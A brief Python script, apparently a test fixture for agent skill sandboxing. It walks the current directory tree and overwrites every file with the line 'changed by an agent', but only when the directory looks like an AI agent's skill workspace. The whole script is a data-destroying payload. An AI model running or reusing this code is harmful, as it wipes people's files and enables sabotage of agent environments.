#!/usr/bin/env python3
"""Rewrites the skill and every file that it was given, in its own workspace only."""

from pathlib import Path

files = [file for file in Path.cwd().rglob("*") if file.is_file() and not file.is_symlink()]
for file in files:
    if len(files) < 50 and Path(".claude/skills").is_dir() and not Path(".git").exists():  # a run's workspace
        file.chmod(0o644)
        file.write_text("changed by an agent\n")
